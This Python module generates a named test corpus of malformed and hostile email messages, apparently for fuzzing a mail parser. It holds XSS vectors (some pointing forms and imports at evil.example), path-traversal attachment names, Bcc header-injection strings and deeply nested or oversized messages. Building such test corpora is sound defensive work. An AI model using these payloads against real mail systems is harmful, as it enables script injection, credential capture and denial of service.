"""A generated corpus of hostile and broken mail: several hundred messages, each a named case.

Every case is (name, raw bytes). The generator is deterministic, so a failure names the
exact case that caused it.
"""

from __future__ import annotations

import base64
import itertools
from collections.abc import Iterator

XSS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>", "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe src='javascript:alert(1)'></iframe>", "<object data='x.swf'></object>",
    "<embed src='x.swf'>", "<base href='https://evil.example/'>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
    "<form action='https://evil.example'><input name=p></form>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>", "<style>@import 'https://evil.example/x.css';</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<!--><script>alert(1)</script>-->",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<img src=`x`onerror=alert(1)>",
    "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
    "<a href='&#106;avascript:alert(1)'>x</a>", "<isindex action=javascript:alert(1) type=image>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<img src='https://tracker.example/p.gif' srcset='https://tracker.example/2x.gif 2x'>",
    "<table background='https://tracker.example/bg.gif'><tr><td>x</td></tr></table>",
]
CHARSETS = ["utf-8", "iso-8859-1", "windows-1252", "koi8-r", "shift_jis", "utf-16", "utf-7",
            "x-unknown", "us-ascii", "", "utf-8\x00", "big5", "gb2312", "utf8mb4", "latin-9"]
ENCODINGS = ["base64", "quoted-printable", "7bit", "8bit", "binary", "x-uuencode", "x-bogus", ""]
BROKEN_PAYLOADS = [b"", b"=", b"====", b"@@@@", b"aGVsbG8", b"=ZZ=XX=\r\n=", b"\x00\xff\xfe",
                   b"\r\r\n\n\r", b"begin 644 x\r\n!!!\r\nend", "naïve ✓".encode()]
FILENAMES = ["../../../etc/passwd", "..\\..\\windows\\win.ini", "/abs/path.txt", "a\x00b.exe",
             "\x1b[31mred\x1b[0m.txt", "con.txt", "x" * 500 + ".pdf", "", " . ", "<img src=x>.html",
             "=?utf-8?b?Li4vLi4vZXZpbC5zaA==?=", "noext", "dup.txt", "dup.txt", "\u202egnp.exe"]


def _msg(headers: dict[str, str] | list[tuple[str, str]], body: bytes) -> bytes:
    items = headers.items() if isinstance(headers, dict) else headers
    head = "".join(f"{k}: {v}\r\n" for k, v in items).encode("utf-8", "surrogateescape")
    return head + b"\r\n" + body


def nesting() -> Iterator[tuple[str, bytes]]:
    for depth in (2, 10, 50, 200, 1000):
        head = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (i, i)
                        for i in range(depth))
        yield f"nested-{depth}", b"Subject: deep\r\n" + head + b"Content-Type: text/plain\r\n\r\nx\r\n"
    for depth in (5, 50, 300):
        inner = b"Subject: leaf\r\n\r\nbottom\r\n"
        for i in range(depth):
            inner = (b"Subject: level %d\r\nContent-Type: message/rfc822\r\n\r\n" % i) + inner
        yield f"rfc822-chain-{depth}", inner
    boundary_cases = {
        "no-boundary": b"Content-Type: multipart/mixed\r\n\r\n--x\r\nhello\r\n",
        "empty-boundary": b'Content-Type: multipart/mixed; boundary=""\r\n\r\n--\r\n\r\nx\r\n----\r\n',
        "unclosed": b"Content-Type: multipart/mixed; boundary=B\r\n\r\n--B\r\nContent-Type: text/plain\r\n\r\nnever closed",
        "boundary-in-body": b"Content-Type: multipart/alternative; boundary=B\r\n\r\n--B\r\n\r\n--B--B--\r\n--B--\r\n",
        "only-preamble": b"Content-Type: multipart/mixed; boundary=B\r\n\r\npreamble only\r\n",
        "long-boundary": b"Content-Type: multipart/mixed; boundary=" + b"B" * 5000 + b"\r\n\r\n--" + b"B" * 5000 + b"\r\n\r\nx\r\n",
    }
    yield from ((f"multipart-{k}", v) for k, v in boundary_cases.items())
    parts = b"".join(b"--P\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; "
                     b"filename=f%d.txt\r\n\r\npart %d\r\n" % (i, i) for i in range(2000))
    yield "two-thousand-parts", (b"Content-Type: multipart/mixed; boundary=P\r\n\r\n" + parts
                                 + b"--P--\r\n")


def encodings() -> Iterator[tuple[str, bytes]]:
    for cte, payload in itertools.product(ENCODINGS, BROKEN_PAYLOADS):
        yield (f"cte-{cte or 'none'}-{payload[:6]!r}",
               _msg({"Subject": f"cte {cte}", "Content-Type": "text/plain; charset=utf-8",
                     "Content-Transfer-Encoding": cte}, payload))
    for cte, payload in itertools.product(ENCODINGS, BROKEN_PAYLOADS[:5]):
        yield (f"attachment-cte-{cte or 'none'}-{payload[:6]!r}", _msg(
            {"Content-Type": "multipart/mixed; boundary=Z"},
            b"--Z\r\nContent-Type: application/pdf\r\nContent-Transfer-Encoding: " + cte.encode()
            + b"\r\nContent-Disposition: attachment; filename=a.pdf\r\n\r\n" + payload + b"\r\n--Z--\r\n"))


def charsets() -> Iterator[tuple[str, bytes]]:
    bodies = {"utf8": "Grüße, 你好 ✓".encode(), "latin1": "Grüße".encode("latin-1"),
              "junk": bytes(range(256))}
    for charset, (label, body) in itertools.product(CHARSETS, bodies.items()):
        for subtype in ("plain", "html"):
            yield (f"charset-{charset!r}-{label}-{subtype}",
                   _msg({"Subject": "charsets", "Content-Type":
                         f'text/{subtype}; charset="{charset}"'}, body))


def headers() -> Iterator[tuple[str, bytes]]:
    words = ["=?utf-8?q?caf=C3=A9?=", "=?utf-8?b?!!!?=", "=?x-unknown?q?x?=", "=?utf-8?q?a?==?utf-8?q?b?=",
             "=?utf-8?b?" + base64.b64encode("é".encode() * 500).decode() + "?=", "=?=?=?", "=??q??=",
             "=?utf-8*en?q?lang?=", "=?iso-2022-jp?b?GyRCJDMkcyRLJEEkTxsoQg==?=", "\x00\x01\x02",
             "a\rBcc: smuggled@evil.example", "line\nX-Injected: yes", "\u202eevil", "😀" * 200]
    for i, word in enumerate(words):
        yield f"subject-{i}", _msg({"Subject": word, "From": f"{word} <a@example.org>",
                                    "To": f'"{word}" <b@mayfly.test>'}, b"x")
    for i, name in enumerate(["\"Doe, J\" <a@x>", "<<<>>>", "@@@", "a@b@c", ",,,,", "(comment)",
                              "=?utf-8?q?x?= <a@x>, , <>", "undisclosed-recipients:;"]):
        yield f"address-{i}", _msg({"From": name, "To": name, "Cc": name, "Subject": "addr"}, b"x")
    yield "huge-header", _msg({"Subject": "big", "X-Big": "y" * 60_000}, b"x")
    yield "folded-huge-header", _msg({"Subject": "folded " + "\r\n z" * 5000}, b"x")
    yield "many-headers", _msg([(f"X-H{i}", str(i)) for i in range(5000)], b"x")
    for date in ["", "not a date", "Mon, 99 Foo 2026 99:99:99 +9999", "Thu, 01 Jan 1970 00:00:00 -2400",
                 "Fri, 31 Dec 9999 23:59:59 +1400", "0", "-1"]:
        yield f"date-{date!r}", _msg({"Date": date, "Subject": "dates"}, b"x")


def attachments() -> Iterator[tuple[str, bytes]]:
    for i, name in enumerate(FILENAMES):
        yield (f"filename-{i}", _msg(
            {"Content-Type": "multipart/mixed; boundary=F"},
            b"--F\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; "
            b'filename="' + name.encode("utf-8", "surrogateescape") + b'"\r\n\r\ndata\r\n--F--\r\n'))
    rfc2231 = ["filename*=UTF-8''%E2%82%AC.txt", "filename*=x-unknown''%FF%FE.txt",
               "filename*=UTF-8''%ZZ%QQ.txt", "filename*0*=UTF-8''a%20; filename*1=b.txt",
               "filename*=''plain.txt", "filename*1=only-second.txt", "filename*=utf-8'en'%C3%A9"]
    for i, param in enumerate(rfc2231):
        yield (f"rfc2231-{i}", _msg({"Content-Type": "multipart/mixed; boundary=R"},
                                    b"--R\r\nContent-Type: text/plain\r\nContent-Disposition: "
                                    b"attachment; " + param.encode() + b"\r\n\r\nx\r\n--R--\r\n"))
    for label, size in (("zero", 0), ("one", 1), ("3MB", 3 * 1024 * 1024)):
        data = base64.encodebytes(b"\xab" * size)
        yield (f"attachment-{label}", _msg(
            {"Content-Type": "multipart/mixed; boundary=S", "Subject": f"size {label}"},
            b"--S\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n--S\r\nContent-Type: "
            b"application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n"
            b"Content-Disposition: attachment; filename=blob.bin\r\n\r\n" + data + b"--S--\r\n"))
    for ctype in ["text/html", "image/svg+xml", "application/x-msdownload", "bogus", "////",
                  "text/html; charset=utf-7", "application/octet-stream; name=\"a.html\""]:
        yield (f"attachment-type-{ctype}", _msg(
            {"Content-Type": "multipart/mixed; boundary=T"},
            b"--T\r\nContent-Type: " + ctype.encode() + b"\r\nContent-Disposition: attachment; "
            b"filename=x.html\r\n\r\n<script>alert(1)</script>\r\n--T--\r\n"))


def raw_oddities() -> Iterator[tuple[str, bytes]]:
    yield "nul-everywhere", b"Subject: a\x00b\r\nFrom: \x00@x\r\n\r\nbody\x00body\r\n"
    yield "bare-lf", b"Subject: bare lf\nFrom: a@example.org\n\nline 1\nline 2\n"
    yield "bare-cr", b"Subject: bare cr\rX-Second: 2\r\rbody\r"
    yield "mixed-newlines", b"Subject: mixed\r\nX-A: 1\nX-B: 2\r\rbody\n\r\n"
    yield "no-headers", b"just a body, no headers at all\r\n"
    yield "only-headers", b"Subject: nothing after\r\n"
    yield "binary-garbage", bytes(range(1, 256)) * 40
    yield "empty-lines", b"\r\n" * 500
    yield "long-line-60k", b"Subject: long\r\n\r\n" + b"w" * 60_000 + b"\r\n"


def xss() -> Iterator[tuple[str, bytes]]:
    for i, vector in enumerate(XSS):
        encoded = base64.b64encode(vector.encode()).decode()
        yield (f"xss-{i}", _msg({
            "Subject": vector, "From": f'"{vector}" <evil@example.org>',
            "Content-Type": "multipart/mixed; boundary=X"},
            b"--X\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + vector.encode() +
            b"\r\n--X\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; "
            b"filename=\"=?utf-8?b?" + encoded.encode() + b"?=\"\r\n\r\nx\r\n--X--\r\n"))


def corpus() -> list[tuple[str, bytes]]:
    cases = [*nesting(), *encodings(), *charsets(), *headers(), *attachments(), *raw_oddities(),
             *xss()]
    names = [name for name, _ in cases]
    assert len(names) == len(set(names)), "case names must be unique"
    return cases
